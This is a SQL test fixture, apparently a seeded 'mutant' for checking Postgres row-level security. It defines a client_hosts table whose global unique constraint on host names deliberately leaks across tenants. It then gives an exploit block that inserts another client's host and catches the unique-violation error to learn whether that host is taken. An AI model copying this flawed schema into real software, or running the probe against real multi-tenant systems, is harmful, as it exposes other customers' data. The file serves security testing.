-- mutant: A unique constraint over all clients on a table that clients write
-- base: flows
-- family: unique
-- leaks: whether any other client uses a host name
create table flows.client_hosts (
  client_id uuid not null references flows.clients (id),
  id uuid not null default gen_random_uuid(),
  host text not null unique,
  primary key (client_id, id)
);
alter table flows.client_hosts enable row level security, force row level security;
revoke all on flows.client_hosts from public, anon, authenticated, service_role;
create policy client_hosts_floor on flows.client_hosts
  as restrictive for all to anon, authenticated
  using (client_id = (select flows.current_client_id()))
  with check (client_id = (select flows.current_client_id()));
create policy client_hosts_all_own on flows.client_hosts
  for all to authenticated
  using (true);
grant select, insert (client_id, host) on flows.client_hosts to authenticated;
insert into flows.client_hosts (client_id, host) select id, id || '.example.com' from flows.clients;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
do $$
begin
  insert into flows.client_hosts (client_id, host) values ('{{a}}', '{{b}}.example.com');
  raise exception 'free';
exception
  when raise_exception then
    null;
  when unique_violation then
    perform set_config('exploit.seen', 'taken', true);
end
$$;
select 'taken' where current_setting('exploit.seen', true) = 'taken';
